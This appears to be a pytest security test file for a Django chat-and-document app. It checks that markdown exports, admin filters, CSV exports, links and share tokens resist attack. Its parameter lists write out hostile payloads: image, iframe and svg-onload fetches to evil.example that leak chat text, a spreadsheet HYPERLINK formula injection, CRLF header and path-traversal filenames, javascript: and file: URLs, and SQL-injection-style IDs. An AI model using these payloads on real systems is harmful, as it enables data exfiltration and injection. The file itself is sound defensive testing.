"""What is taken away, and what staff see: nothing in it acts by itself, and no list tells what it does not show."""

from __future__ import annotations

import csv
import io
from uuid import uuid4

import pytest
from bs4 import BeautifulSoup
from django.contrib.auth.models import Permission
from django.test import Client
from markdown_it import MarkdownIt

from mundap.accounts import audit
from mundap.accounts.models import User
from mundap.chats import sharing
from mundap.chats.inert_markdown import inert
from mundap.library.models import Collection, Document, Passage
from tests.web.conftest import MakeChat, cite, django_docs, document, make_chat, passage

__all__ = ["django_docs", "document", "make_chat", "passage"]
pytestmark = pytest.mark.django_db
FETCHED = "https://evil.example/?said="
ATTACKS = [
    f"![x]({FETCHED})",
    f"![x][1]\n\n[1]: {FETCHED}",
    f'<img src="{FETCHED}">',
    f"<iframe src={FETCHED}></iframe>",
    f"\\![x]({FETCHED})",
    f"\\\\![x]({FETCHED})",
    f'\\<img src="{FETCHED}">',
    f'\\\\<img src="{FETCHED}">',
    f"```\ncode\n```\n![x]({FETCHED})",
    f"``` `\n![x]({FETCHED})\n```",
    f"`a\n\n![x]({FETCHED})\n\nb`",
    f"> ```\n\n![x]({FETCHED})\n\n> ```",
    f"~~~ x\n![a]({FETCHED})\n~~~~ not the end\n~~~\n![x]({FETCHED})",
    f"- ```\n![x]({FETCHED})\n- ```",
    f"![[{FETCHED}]]",
    f'<!-- --><svg onload="fetch({FETCHED})">',
]


def fetched(html: str) -> list[str]:
    """Return what a viewer would fetch of the file without being asked."""
    soup = BeautifulSoup(html, "html.parser")
    return [
        str(each) for each in soup.find_all(["img", "iframe", "svg", "link", "script", "style"])
    ]


@pytest.mark.parametrize("text", ATTACKS)
def test_markdown_fetches_nothing(text: str) -> None:
    viewer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    assert fetched(viewer.render(inert(text))) == []
    assert "![[" not in inert(text)


@pytest.mark.parametrize(
    "text",
    [
        "if a < b and `![x](y)` or `<img>` then",
        '```html\n<img src="x">\n![x](y)\n```',
        "List\n\n- one\n- two [1]",
        "Really![1] and 1 <2",
    ],
)
def test_what_is_harmless_reads_as_before(text: str) -> None:
    viewer = MarkdownIt("commonmark", {"html": True})
    assert viewer.render(inert(text)) == viewer.render(text)


def test_a_file_of_a_chat_fetches_nothing(
    alice: User, alice_client: Client, make_chat: MakeChat, passage: Passage
) -> None:
    evil = f'![x]({FETCHED}) <img src="{FETCHED}">'
    citation = cite(passage) | {
        "document": evil,
        "headings": [f"]({FETCHED}) {evil}"],
        "quote": evil,
        "url": f"https://docs.example/> ![x]({FETCHED}) <",
    }
    chat, _answer = make_chat(alice, evil, evil, title=evil, citations=[citation])
    reply = alice_client.get(f"/chats/{chat.pk}/export/?format=md")
    viewer = MarkdownIt("commonmark", {"html": True})
    html = viewer.render(reply.content.decode())
    assert fetched(html) == []
    links = [each["href"] for each in BeautifulSoup(html, "html.parser").find_all("a")]
    assert all(link.startswith("https://docs.example/") for link in links)


@pytest.mark.parametrize(
    "title", ['a"; x="\r\nSet-Cookie: a=b', "../../etc/passwd", "캐시\n", "🙂" * 90]
)
def test_a_file_s_name_is_a_name(
    alice: User, alice_client: Client, make_chat: MakeChat, title: str
) -> None:
    chat, _answer = make_chat(alice, title=title[:100])
    reply = alice_client.get(f"/chats/{chat.pk}/export/?format=json")
    named = reply.headers["Content-Disposition"]
    assert named.startswith("attachment; filename")
    assert not {"\r", "\n", "/", "\\", ".."} & set(named)
    assert ".." not in named
    assert "a" not in reply.cookies


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_a_table_of_staff_is_no_program(sign: str) -> None:
    admin = User.objects.create_superuser(
        f"{'x' if sign in chr(9) + chr(13) else sign}a@example.org"
    )
    audit.record("log.exported", actor=admin, about=f'{sign}HYPERLINK("{FETCHED}")')
    client = Client()
    client.force_login(admin)
    reply = client.get("/admin/accounts/auditentry/export/")
    table = reply.getvalue().decode()
    cells = [cell for row in csv.reader(io.StringIO(table, newline="")) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.fixture
def onlooker(db: None) -> Client:
    """Staff who may look at everything, and change nothing."""
    user = User.objects.create_user("onlooker@example.org", is_staff=True)
    user.user_permissions.set(Permission.objects.filter(codename__startswith="view_"))
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.parametrize(
    "asked",
    [
        "chats/chat/?title__icontains=salary",
        "chats/chat/?title__startswith=m",
        "chats/chat/?messages__text__icontains=salary",
        "chats/chat/?collection__title=x",
        "library/document/?text__icontains=redis",
        "library/document/?passages__text__icontains=redis",
        "library/storedfile/?content__contains=x",
        "accounts/user/?password__startswith=argon2",
        "accounts/apitoken/?user__password__startswith=argon2",
        "accounts/apitoken/?digest__startswith=x",
        "accounts/auditentry/?details__reason__contains=x",
    ],
)
def test_a_list_does_not_answer_about_what_it_does_not_show(
    alice: User, onlooker: Client, make_chat: MakeChat, asked: str
) -> None:
    make_chat(alice, title="my salary")
    assert onlooker.get(f"/admin/{asked}").status_code == 400


@pytest.mark.parametrize(
    "asked",
    ["library/document/?state__exact=ready", "accounts/user/?is_staff__exact=1",
     "chats/chat/?owner__id__exact={alice}", "accounts/auditentry/?at__gte=2026-01-01+00:00:00%2B00:00",
     "accounts/auditentry/?action=chat.read"],
)  # fmt: skip
def test_its_own_filters_work(alice: User, onlooker: Client, asked: str) -> None:
    assert onlooker.get(f"/admin/{asked.format(alice=alice.pk)}").status_code == 200


def test_nothing_is_completed(alice: User, onlooker: Client, make_chat: MakeChat) -> None:
    make_chat(alice, title="my salary")
    query = "app_label=chats&model_name=message&field_name=chat&term="
    reply = onlooker.get(f"/admin/autocomplete/?{query}")
    assert reply.status_code == 404
    assert b"salary" not in reply.content


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,x", "//evil.example", "file:///etc/passwd"]
)  # fmt: skip
def test_an_address_in_a_document_is_a_link_to_the_web_or_none(
    alice: User, alice_client: Client, make_chat: MakeChat, passage: Passage, url: str
) -> None:
    """Pages and packages say themselves where they are published."""
    _chat, answer = make_chat(alice, citations=[cite(passage) | {"url": url}])
    Document.objects.update(url=url)
    Collection.objects.update(home_page=url, base_url=url)
    for path in (
        f"/passages/{passage.pk}/",
        f"/passages/{passage.pk}/?message={answer.pk}&n=1",
        f"/documents/{passage.document_id}/",
        "/shelf/django/",
        f"/messages/{answer.pk}/sources/",
    ):
        page = BeautifulSoup(alice_client.get(path).content, "html.parser")
        assert not [each for each in page.find_all("a") if each["href"].startswith(url)], path


def test_an_id_is_not_found_by_its_form(alice_client: Client) -> None:
    """Neither by another spelling of a UUID, nor by what a database would refuse loudly."""
    for pk in (
        uuid4(),
        uuid4().hex,
        f"{{{uuid4()}}}",
        "0",
        "-1",
        "1e9",
        "..%2f..",
        "'--",
        "%27%20OR%201=1",
    ):
        for path in (f"/chats/{pk}/", f"/api/v1/chats/{pk}/", f"/api/v1/chatbot/{pk}/"):
            assert alice_client.get(path).status_code in {401, 404}, path


def test_half_a_link_opens_nothing(alice: User, make_chat: MakeChat) -> None:
    """Its first half is the share's id, which stands in logs and backups."""
    chat, _answer = make_chat(alice)
    share, _is_new = sharing.share_chat(alice, chat.pk)
    token = sharing.token_of(share)
    assert Client().get(f"/shared/{token}/").status_code == 200
    for wrong in (token[:22] + "A" * 21, token[:-3] + "AAA", token[:22], token[::-1]):
        assert Client().get(f"/shared/{wrong}/").status_code == 404
